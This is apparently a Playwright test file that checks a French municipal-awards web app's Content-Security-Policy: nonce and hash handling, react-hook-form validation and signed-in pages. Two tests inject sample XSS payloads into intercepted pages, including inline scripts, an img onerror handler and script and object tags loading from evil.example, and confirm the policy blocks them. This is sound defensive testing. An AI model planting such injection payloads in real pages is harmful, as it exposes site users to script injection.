import { createHash } from "node:crypto";
import type { Page } from "@playwright/test";
import { THEME_SCRIPT_HASH } from "../../lib/theme-script";
import { expect, test } from "../fixtures";
import { signInAs } from "../support/personas";

/**
 * The Content-Security-Policy in a real browser: the app
 * works under it (no violation reported on a public page, a react-hook-form
 * form, the map, a signed-in form), and a script injected into a page
 * rendered per request does not run.
 */

/** Collects the page's CSP violations (event and console), from before its first script. */
async function watchViolations(page: Page) {
  const violations: string[] = [];
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __csp: string[] }).__csp = seen;
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  page.on("console", (message) => {
    if (message.type() === "error" && /Content Security Policy/i.test(message.text())) {
      violations.push(message.text());
    }
  });
  return async () => [
    ...violations,
    ...(await page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? [])),
  ];
}

test("a public page, the laureates' filters and the map run without any CSP violation", async ({ page }) => {
  const violations = await watchViolations(page);
  const home = await page.goto("/");
  expect(home?.headers()["content-security-policy"]).toContain("script-src 'self' 'unsafe-inline'");
  await page.goto("/laureats");
  // Filtering (a form the page's scripts enhance) and the result page.
  await page.locator("#filtre-recherche").fill("eau");
  await page.getByRole("button", { name: "Filtrer" }).click();
  await expect(page).toHaveURL(/eau/);
  await page.goto("/carte");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("a react-hook-form form under the nonce policy validates in the browser, no violation", async ({
  page,
}) => {
  const violations = await watchViolations(page);
  const response = await page.goto("/connexion");
  const csp = response?.headers()["content-security-policy"] ?? "";
  const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
  expect(nonce).toBeTruthy();
  expect(csp).toContain("'strict-dynamic'");
  expect(csp).not.toContain("unsafe-eval");
  // Every script the server sent carries this request's nonce, but the theme script, the same on every
  // page, which the policy names by its hash. Those they load later (Next's chunks, the design system's
  // modules) run by 'strict-dynamic' and carry none: the violations below cover them.
  const scripts = [...((await response?.text()) ?? "").matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  const nonced = scripts.filter(([, attributes]) => /\snonce="/.test(attributes ?? ""));
  expect(nonced.length).toBeGreaterThan(0);
  expect(new Set(nonced.map(([, attributes]) => /\snonce="([^"]*)"/.exec(attributes ?? "")?.[1]))).toEqual(
    new Set([nonce]),
  );
  const hashed = scripts
    .filter((script) => !nonced.includes(script))
    .map(
      ([, , body]) =>
        `'sha256-${createHash("sha256")
          .update(body ?? "")
          .digest("base64")}'`,
    );
  expect(hashed).toEqual([THEME_SCRIPT_HASH]);
  expect(csp).toContain(THEME_SCRIPT_HASH);
  await page.getByLabel("Adresse e-mail professionnelle").fill("pas-une-adresse");
  await page.getByRole("button", { name: "Recevoir un lien de connexion" }).click();
  // The message comes from the zod resolver in the browser: React hydrated under the policy.
  await expect(
    page.getByText("Saisissez une adresse e-mail valide, par exemple prenom.nom@mairie.fr."),
  ).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("a signed-in space runs under the nonce policy without violation", async ({ page }) => {
  const violations = await watchViolations(page);
  await signInAs(page, "reviewer");
  const response = await page.goto("/instruction");
  expect(response?.headers()["content-security-policy"]).toMatch(
    /script-src 'nonce-[^']+' 'sha256-[^']+' 'strict-dynamic'/,
  );
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  expect(await violations()).toEqual([]);
});

test("a script injected into a page rendered per request does not run", async ({ page }) => {
  const violations = await watchViolations(page);
  // As a stored XSS would appear: markup added to the HTML the server sent, under the server's own headers.
  await page.route("**/connexion", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace(
      "</body>",
      `<script>window.__pwned = "inline";</script><img src="/x" onerror="window.__pwned = 'handler'"><script src="https://evil.example/x.js"></script></body>`,
    );
    await route.fulfill({ response, body: html });
  });
  await page.goto("/connexion");
  await expect(page.getByRole("button", { name: "Recevoir un lien de connexion" })).toBeVisible();
  await expect.poll(async () => (await violations()).length).toBeGreaterThanOrEqual(3);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  const seen = (await violations()).join("\n");
  expect(seen).toContain("script-src");
  expect(seen).toContain("evil.example");
});

test("on a cached public page, a script from another origin is blocked", async ({ page }) => {
  const violations = await watchViolations(page);
  await page.route("**/mentions-legales", async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace(
      "</body>",
      `<script src="https://evil.example/x.js"></script><object data="https://evil.example/x.swf"></object></body>`,
    );
    await route.fulfill({ response, body: html });
  });
  await page.goto("/mentions-legales");
  await expect.poll(async () => (await violations()).join("\n")).toContain("evil.example");
});
